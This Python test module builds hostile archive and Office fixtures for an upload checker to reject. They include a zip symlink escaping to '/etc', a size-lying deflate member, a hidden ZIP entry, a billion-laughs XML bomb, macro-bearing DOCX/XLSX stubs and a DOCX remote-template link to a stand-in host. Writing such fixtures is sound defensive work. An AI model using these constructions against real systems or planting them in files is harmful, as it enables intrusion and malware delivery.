"""Archives and Office packages that the upload checks must refuse (``hall.archives``), made
byte by byte or with zipfile where they cannot be written otherwise: the builders of
``tests/portal/test_archives.py``'s table."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from typing import Any

from tests.support.archives import (
    declaring,
    docx_parts,
    raw_zip,
    relationships,
    with_chart,
    xlsx,
    xlsx_parts,
    zipped,
)

INSTALL_LINE = b"#!/bin/sh\ncp libukey.so /usr/lib/\n"


def symlink() -> bytes:
    """A symbolic link beside a file, as zipfile writes Unix's mode: unpacked by unzip, it
    points out of the folder, and what is written through it lands there."""
    link = zipfile.ZipInfo("驱动/最新版")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("驱动/说明.txt", "双击安装。")
        archive.writestr(link, b"../../../../etc")
    return out.getvalue()


def changed(content: bytes, marker: bytes, offset: int = 100) -> bytes:
    """``content`` with the byte ``offset`` bytes after ``marker`` changed."""
    at = content.index(marker) + offset
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def inflates_past_its_size() -> bytes:
    """A member declaring 1000 bytes whose deflated data unpacks to 2 MiB (zipfile's own
    reader stops at the 1000 and finds its CRC right)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflate.compress(bytes(2 << 20)) + deflate.flush()
    return raw_zip([(b"setup.exe", data, zlib.crc32(bytes(1000)), 1000)], method=8)


def macro_docx() -> bytes:
    parts = docx_parts()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(60)  # an OLE file's start
    return zipped(parts)


def without(parts: dict[str, bytes | str], name: str) -> bytes:
    return zipped({key: value for key, value in parts.items() if key != name})


VBA = "application/vnd.ms-office.vbaProject"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # a compound file's header


def macro_part_renamed() -> bytes:
    """A ``.docm``'s VBA project renamed: Word finds it through its relationship and loads it
    by the type ``[Content_Types].xml`` declares for it, whatever its name."""
    parts = declaring(docx_parts(), overrides={"word/settings2.bin": VBA})
    return zipped({**parts, "word/settings2.bin": OLE_FILE})


def macro_enabled_main_part() -> bytes:
    """A ``.docm`` renamed ``.docx``, its VBA part gone: the main part is declared macro-enabled."""
    parts = docx_parts()
    types = str(parts["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return zipped({**parts, "[Content_Types].xml": types})


def with_part(parts: dict[str, bytes | str], name: str, data: bytes | str, **types: Any) -> bytes:
    return zipped({**declaring(parts, **types), name: data})


def main_part_elsewhere() -> bytes:
    """A ``.docm`` whose main part is not ``word/document.xml``: Word finds it through
    ``_rels/.rels`` and opens it; by its names it is no DOCX, but it has content types."""
    parts = {
        name.replace("word/document.xml", "word/main.xml"): str(data).replace(
            "word/document.xml", "word/main.xml"
        )
        for name, data in docx_parts().items()
    }
    return zipped({**parts, "word/vbaProject.bin": OLE_FILE})


def hidden_member() -> bytes:
    """A ZIP whose central directory names ``readme.txt`` only, with ``payload.exe``'s local
    entry between it and the directory: a reader of the local headers (a streaming unzip, a
    repair) finds it, a reader of the directory does not."""
    shown = raw_zip([(b"readme.txt", "干净的说明。".encode())])
    hidden = raw_zip([(b"payload.exe", b"MZ" + bytes(100))])
    directory, local = shown.index(b"PK\x01\x02"), hidden[: hidden.index(b"PK\x01\x02")]
    joined = shown[:directory] + local + shown[directory:]
    return joined[:-6] + struct.pack("<I", directory + len(local)) + joined[-2:]


class Stream(io.RawIOBase):
    """A stream that cannot seek: zipfile writes each member's sizes after its data, in a
    data descriptor (flag bit 3), as a packer writing to a pipe or a download does."""

    def __init__(self) -> None:
        self.out = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return self.out.write(data)


def streamed() -> bytes:
    stream = Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("驱动/说明.txt", "双击安装。" * 100)
        with archive.open("驱动/setup.exe", "w") as member:
            member.write(b"MZ" + bytes(5000))
    return stream.out.getvalue()


def apk() -> bytes:
    """An APK: its members, then Android's signing block (v2), then its directory."""
    content = zipped({"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035"})
    pairs = struct.pack("<QI", 4 + 32, 0x7109871A) + bytes(32)
    size = struct.pack("<Q", len(pairs) + 8 + 16)
    block = size + pairs + size + b"APK Sig Block 42"
    directory = content.index(b"PK\x01\x02")
    joined = content[:directory] + block + content[directory:]
    return joined[:-6] + struct.pack("<I", directory + len(block)) + joined[-2:]


#: A billion laughs: ten entities, each ten of the one before (10^9 "lol"s if expanded).
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="&l9;"/></Types>'
)


def nested(depth: int, inner: bytes, name: str = "表格/申请表.docx") -> bytes:
    """``inner`` packed ``depth`` times, each in a folder of the one around it."""
    for level in range(depth):
        inner = zipped({name if level == 0 else f"第{level}层.zip": inner})
    return inner


def relating(
    parts: dict[str, bytes | str], name: str, *entries: tuple[str, str] | tuple[str, str, str]
) -> dict[str, bytes | str]:
    """``parts`` with the relationships part ``name`` relating ``entries`` (``relationships``)."""
    return {**parts, name: relationships(*entries)}


SETTINGS_RELS = "word/_rels/settings.xml.rels"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def remote_template() -> bytes:
    """A DOCX whose settings attach a template from a web server: Word fetches it when the
    file opens and runs its macros (a known way in for malware: the DOCX itself holds none)."""
    template = ("attachedTemplate", "http://198.51.100.7/申请表.dotm", "External")
    return zipped(relating(docx_parts(), SETTINGS_RELS, template))


def form_with_a_chart(workbook: bytes | None = None) -> bytes:
    """A ZIP of forms, one of them a DOCX with a chart (its workbook an XLSX in the DOCX, two
    levels down)."""
    form = zipped(with_chart(docx_parts(), xlsx() if workbook is None else workbook))
    return zipped({"表格/申请表.docx": form, "表格/清单.xlsx": xlsx(), "说明.txt": "x"})


def macro_workbook() -> bytes:
    return zipped({**xlsx_parts(), "xl/vbaProject.bin": OLE_FILE})


# Archives of formats nothing here reads inside (``hall.formats.foreign``), made with the stdlib
# where it writes them, byte by byte from their specifications where it does not.


def cab(name: str = "ukey.inf", data: bytes = b"[Version]\r\nSignature=$Windows NT$\r\n") -> bytes:
    """A Microsoft cabinet of one stored file, as a driver's package carries one ([MS-CAB]: its
    header, one folder, the file's entry, one data block without a checksum); Windows' Explorer
    opens it with a double-click."""
    encoded = name.encode() + b"\x00"
    files_at = 36 + 8
    data_at = files_at + 16 + len(encoded)
    total = data_at + 8 + len(data)
    header = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, total, 0, files_at, 0, 3, 1, 1, 1, 0, 0, 0)
    folder = struct.pack("<IHH", data_at, 1, 0)  # its data blocks' start, one block, stored
    date, clock = (2026 - 1980) << 9 | 11 << 5 | 20, 10 << 11
    entry = struct.pack("<IIHHHH", len(data), 0, 0, date, clock, 0x20) + encoded
    block = struct.pack("<IHH", 0, len(data), len(data)) + data
    return header + folder + entry + block


def seven_zip() -> bytes:
    """An empty 7-Zip archive as 7-Zip writes one: its signature header (the magic, version
    0.4, the start header's CRC-32 over the next header's offset, size and CRC, all zero)."""
    start = struct.pack("<QQI", 0, 0, 0)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start


def _rar_block(body: bytes) -> bytes:
    sized = bytes([len(body)]) + body
    return struct.pack("<I", zlib.crc32(sized)) + sized


def rar() -> bytes:
    """An empty RAR 5 archive: its signature, its main header and its end of archive (each a
    CRC-32 over the header's size and body: type, flags, the archive's or the end's flags)."""
    return b"Rar!\x1a\x07\x01\x00" + _rar_block(b"\x01\x00\x00") + _rar_block(b"\x05\x00\x00")


def tar() -> bytes:
    """A tar of a Linux driver's install script, as tarfile writes it (PAX: ``ustar`` at 257)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        script = b"#!/bin/sh\ncp libukey.so /usr/lib/\n"
        info = tarfile.TarInfo("ukey-driver/install.sh")
        info.size, info.mode = len(script), 0o755
        archive.addfile(info, io.BytesIO(script))
    return out.getvalue()


def iso() -> bytes:
    """An ISO 9660 image's start: its 32 KiB system area, then a primary volume descriptor
    (type 1, ``CD001``, version 1) and the set's terminator (type 255); Windows mounts one with
    a double-click."""
    return bytes(32768) + b"\x01CD001\x01" + bytes(2041) + b"\xffCD001\x01" + bytes(2041)


def v7_tar() -> bytes:
    """The same tar in the old V7 format: no ``ustar`` at 257 (nothing from there on in the
    header), its checksum written again; GNU tar and 7-Zip still unpack one."""
    data = bytearray(tar())
    data[257:512] = bytes(255)
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\x00 " % sum(data[:512])
    return bytes(data)


def arj(name: bytes = b"ukey.arj") -> bytes:
    """An empty ARJ archive: its main header (``60 EA``, the basic header's size, its 30 fixed
    bytes, the archive's name and an empty comment, then its CRC-32 and no extended header)
    and the end of the archive."""
    fixed = struct.pack("<BBBBBBBBIIIIHHBB", 30, 11, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    basic = fixed + name + b"\x00\x00"
    header = struct.pack("<H", len(basic)) + basic + struct.pack("<I", zlib.crc32(basic))
    return b"\x60\xea" + header + b"\x00\x00" + b"\x60\xea\x00\x00"


def lzh(name: bytes = b"install.sh", data: bytes = INSTALL_LINE) -> bytes:
    """An LHA archive of one stored file (method ``-lh0-``, a level-0 header: its size and
    checksum, the method, sizes, time, attribute, level, name and CRC-16), then its end."""
    body = (
        b"-lh0-"
        + struct.pack("<IIIBBB", len(data), len(data), 0, 0x20, 0, len(name))
        + name
        + b"\x00\x00"
    )
    return bytes([len(body), sum(body) & 0xFF]) + body + data + b"\x00"


def wim() -> bytes:
    """A Windows imaging file's header (``MSWIM``, its size and version) and what follows."""
    return b"MSWIM\x00\x00\x00" + struct.pack("<II", 208, 0x10D00) + bytes(1000)


def vhdx() -> bytes:
    """A VHDX's file type identifier (``vhdxfile`` and its creator) and what follows."""
    return b"vhdxfile" + "certhall".encode("utf-16-le") + bytes(4096)


def _vhd_footer(kind: int, size: int) -> bytes:
    """A VHD's footer (``conectix``; a fixed disk 2, a dynamic one 3), its checksum right."""
    footer = bytearray(
        struct.pack(
            ">8sIIQI4sI4sQQIII16sB",
            b"conectix",
            2,
            0x10000,
            512 if kind == 3 else 0xFFFFFFFFFFFFFFFF,
            0,
            b"win ",
            0xA0000,
            b"Wi2k",
            size,
            size,
            0,
            kind,
            0,
            bytes(16),
            0,
        )
    )
    footer += bytes(512 - len(footer))
    footer[64:68] = struct.pack(">I", ~sum(footer) & 0xFFFFFFFF)
    return bytes(footer)


def vhd(kind: int = 2) -> bytes:
    """A small VHD: fixed (``kind`` 2: the raw disk, an MBR's mark, then the footer) or dynamic
    (3: the footer's copy first, a sparse header, the footer)."""
    if kind == 2:
        disk = bytearray(64 * 1024)
        disk[510:512] = b"\x55\xaa"
        return bytes(disk) + _vhd_footer(2, len(disk))
    return _vhd_footer(3, 1 << 20) + b"cxsparse" + bytes(1016) + _vhd_footer(3, 1 << 20)


def program(after: bytes = b"") -> bytes:
    """A Windows program: a DOS header whose ``e_lfanew`` (0x80) points past its stub to the
    PE signature and a COFF header (i386, no sections), then ``after`` (a self-extracting
    archive is its stub with the archive appended: 7-Zip's and WinRAR's)."""
    dos = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0xE0, 0x0102)
    return dos + stub + b"PE\x00\x00" + coff + bytes(0xE0) + after


INSTALL = INSTALL_LINE * 20

#: Each format's archive (and the format's name a refusal gives).
FOREIGN: dict[str, tuple[bytes, str]] = {
    "7z": (seven_zip(), "7z"),
    "rar5": (rar(), "RAR"),
    "rar4": (b"Rar!\x1a\x07\x00" + bytes(20), "RAR"),  # its signature, then a header's start
    "cab": (cab(), "CAB"),
    "gz": (gzip.compress(INSTALL, mtime=0), "gzip"),
    "bz2": (bz2.compress(INSTALL), "bzip2"),
    "xz": (lzma.compress(INSTALL), "xz"),
    "tar": (tar(), "tar"),
    "tar.gz": (gzip.compress(tar(), mtime=0), "gzip"),
    # a frame of "x" each, as the zstd 1.5 and lz4 1.9 commands write it
    "zst": (bytes.fromhex("28b52ffd04580900007823110483"), "Zstandard"),
    "lz4": (bytes.fromhex("04224d186440a7010000807800000000ea30c42e"), "LZ4"),
    "lz": (b"LZIP\x01\x0c" + bytes(30), "lzip"),  # its header, then a stream's start
    "iso": (iso(), "ISO"),
    # 12-07, night: told by their headers, images, and programs (a self-extracting one too)
    "v7.tar": (v7_tar(), "tar"),
    "arj": (arj(), "ARJ"),
    "lzh": (lzh(), "LZH"),
    "wim": (wim(), "WIM"),
    "vhdx": (vhdx(), "VHDX"),
    "vhd": (vhd(), "VHD"),
    "dynamic.vhd": (vhd(3), "VHD"),
    "exe": (program(), "EXE"),
    "sfx.exe": (program(seven_zip()), "EXE"),
}
